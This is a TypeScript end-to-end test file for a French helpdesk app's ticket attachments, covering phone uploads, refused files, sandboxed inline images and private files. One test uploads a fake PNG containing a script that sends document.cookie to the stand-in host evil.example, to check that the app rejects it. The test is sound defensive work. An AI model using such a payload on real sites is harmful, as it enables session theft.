import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import type { Me } from "../src/shared/api/auth.js";
import type { Ticket } from "../src/shared/api/tickets.js";
import type { User } from "../src/shared/api/users.js";
import { type Browser, openBrowser, screenshot } from "./browser.js";
import { apiCall } from "./helpers.js";
import { missingPrerequisite, startServer, type TestServer } from "./server.js";

const missing = missingPrerequisite();
if (missing) console.warn(`e2e skipped: ${missing}`);

const ADMIN = { login: "admin", password: "admin-password-2026" };
const REQUESTER = { login: "lea.martin", password: "demandeur-2026!" };
const TECH = { login: "hugo.bernard", password: "technicien-2026!" };

/** A user of the root entity with one role, prepared through the API. */
async function createUser(url: string, cookie: string | undefined, entityId: number, who: typeof ADMIN, names: [string, string], role: string) {
  const user = await apiCall<User>(url, "/api/users", { method: "POST", cookie,
    body: { login: who.login, firstName: names[0], lastName: names[1], email: `${who.login}@client.example`, entityId, password: who.password } });
  expect(user.status).toBeLessThan(300);
  const grant = await apiCall(url, "/api/grants", { method: "POST", cookie, body: { userId: user.body.id, entityId, role } });
  expect(grant.status).toBeLessThan(300);
}

async function signIn(page: Page, url: string, who: typeof ADMIN, to: string) {
  await page.goto(`${url}${to}`);
  await page.waitForURL("**/login");
  await page.getByLabel(/^Identifiant/).fill(who.login);
  await page.getByLabel(/^Mot de passe/).fill(who.password);
  await page.getByRole("button", { name: "Se connecter" }).click();
  await page.waitForURL(`**${to}`);
}

/** Picks files through the real button and the browser's file chooser. */
async function chooseFiles(page: Page, button: string, files: { name: string; mimeType: string; buffer: Buffer }[]) {
  const chooser = page.waitForEvent("filechooser");
  await page.getByRole("button", { name: button }).click();
  await (await chooser).setFiles(files);
}

/** Whether the browser decoded the image (a blocked or refused image has no width). */
const imageLoaded = (page: Page, alt: string) =>
  page.getByRole("img", { name: alt }).first().evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0);

describe.skipIf(missing !== undefined)("attachments from the portal to the technician", () => {
  let server: TestServer;
  let phone: Browser;
  let desk: Browser;
  let ticket: Ticket;

  beforeAll(async () => {
    // A 1 MB limit keeps the "too large" case small.
    server = await startServer({ VIGIE_ADMIN_LOGIN: ADMIN.login, VIGIE_ADMIN_PASSWORD: ADMIN.password, VIGIE_MAX_UPLOAD_MB: "1" });
    const admin = await apiCall<Me>(server.url, "/api/auth/login", { method: "POST", body: ADMIN });
    await createUser(server.url, admin.cookie, admin.body.entityId, REQUESTER, ["Léa", "Martin"], "requester");
    await createUser(server.url, admin.cookie, admin.body.entityId, TECH, ["Hugo", "Bernard"], "technician");
    const requester = await apiCall(server.url, "/api/auth/login", { method: "POST", body: REQUESTER });
    const created = await apiCall<Ticket>(server.url, "/api/tickets", { method: "POST", cookie: requester.cookie,
      body: { title: "Message d’erreur au démarrage d’Outlook", description: "Voir la capture d’écran." } });
    expect(created.status).toBe(201);
    ticket = created.body;
    phone = await openBrowser({ viewport: { width: 390, height: 844 } });
    desk = await openBrowser();
  });

  afterEach(async (context) => {
    if (context.task.result?.state === "fail") {
      await screenshot(phone.page, `failed-phone-${context.task.name.slice(0, 30)}`);
      await screenshot(desk.page, `failed-desk-${context.task.name.slice(0, 30)}`);
    }
  });

  afterAll(async () => {
    await phone?.close();
    await desk?.close();
    await server?.stop();
  });

  it("lets a requester attach a screenshot from a phone, and refuses an impostor and a big file with a message", async () => {
    const { page } = phone;
    await signIn(page, server.url, REQUESTER, `/requests/${ticket.id}`);
    await page.getByRole("heading", { name: ticket.title }).waitFor();
    await page.getByText("Aucune pièce jointe.").waitFor();
    const capture = await page.screenshot();

    await chooseFiles(page, "Ajouter un fichier", [{ name: "écran Outlook.png", mimeType: "image/png", buffer: capture }]);
    await page.getByText("Fichier joint").waitFor();
    await page.getByRole("heading", { name: "Pièces jointes (1)" }).waitFor();
    await expect.poll(() => imageLoaded(page, "écran Outlook.png")).toBe(true);
    await screenshot(page, "60-portal-phone-attached");

    await chooseFiles(page, "Ajouter un fichier", [{ name: "facture.png", mimeType: "image/png",
      buffer: Buffer.from("<html><script>document.location='https://evil.example/?'+document.cookie</script></html>") }]);
    await page.getByRole("alert").getByText(/Ce type de fichier est refusé/).waitFor();
    await screenshot(page, "61-portal-phone-refused-type");

    await chooseFiles(page, "Ajouter un fichier", [{ name: "vidéo.zip", mimeType: "application/zip", buffer: Buffer.alloc(1_500_000) }]);
    await page.getByRole("alert").getByText("« vidéo.zip » dépasse la taille maximale de 1 Mo par fichier.").waitFor();
    await screenshot(page, "62-portal-phone-too-large");
    const width = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(width).toBeLessThanOrEqual(390);
  });

  it("shows the technician the screenshot inline, full size on click", async () => {
    const { page } = desk;
    await signIn(page, server.url, TECH, `/tickets/${ticket.id}`);
    await page.getByRole("heading", { name: "Pièces jointes (1)" }).waitFor();
    await expect.poll(() => imageLoaded(page, "écran Outlook.png")).toBe(true);
    await screenshot(page, "63-ticket-attachments");

    await page.getByRole("button", { name: "Agrandir l’image écran Outlook.png" }).click();
    const dialog = page.getByRole("dialog", { name: "écran Outlook.png" });
    await expect.poll(() => dialog.getByRole("img", { name: "écran Outlook.png" }).evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(390);
    await screenshot(page, "64-ticket-attachment-full-size", false);
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "hidden" });

    // Opened on its own, the image shows in a sandbox: nothing in that tab could run.
    const href = await page.getByRole("link", { name: "Télécharger écran Outlook.png" }).getAttribute("href");
    const response = await page.goto(`${server.url}${href}?inline=1`);
    expect(response?.headers()).toMatchObject({ "content-type": "image/png", "x-content-type-options": "nosniff" });
    expect(response?.headers()["content-security-policy"]).toMatch(/^sandbox;/);
    expect(await page.evaluate(() => document.images[0]?.naturalWidth)).toBe(390);
    await page.goBack();
    await page.getByRole("heading", { name: "Pièces jointes (1)" }).waitFor();
  });

  it("takes a private file dropped on the panel, which the requester never sees", async () => {
    const { page } = desk;
    await page.getByLabel("Privées (invisibles du demandeur)").check();
    const dataTransfer = await page.evaluateHandle(() => {
      const transfer = new DataTransfer();
      transfer.items.add(new File(["2026-01-12 08:02:11 OUTLOOK.EXE a cessé de fonctionner\n"], "journal événements.log", { type: "text/plain" }));
      return transfer;
    });
    const panel = page.getByRole("region", { name: /^Pièces jointes/ });
    await panel.dispatchEvent("dragover", { dataTransfer });
    await panel.dispatchEvent("drop", { dataTransfer });
    await page.getByRole("link", { name: "Télécharger journal événements.log" }).waitFor();
    await expect(panel.getByText("Privée", { exact: true }).count()).resolves.toBe(1);
    await screenshot(page, "65-ticket-private-file");

    await phone.page.reload();
    await phone.page.getByRole("heading", { name: "Pièces jointes (1)" }).waitFor();
    await expect(phone.page.getByText("journal événements.log").count()).resolves.toBe(0);
  });

  it("reads the same in English and in the dark theme", async () => {
    const { page } = desk;
    await page.getByRole("button", { name: /^Langue/ }).click();
    await page.getByRole("menuitem", { name: "English" }).click();
    await page.getByRole("heading", { name: "Attachments (2)" }).waitFor();
    await page.getByRole("button", { name: "Switch to dark theme" }).click();
    await expect.poll(() => imageLoaded(page, "écran Outlook.png")).toBe(true);
    await screenshot(page, "66-ticket-attachments-en-dark");
    await page.getByRole("button", { name: "Switch to light theme" }).click();
    await screenshot(page, "67-ticket-attachments-en");
  });
});
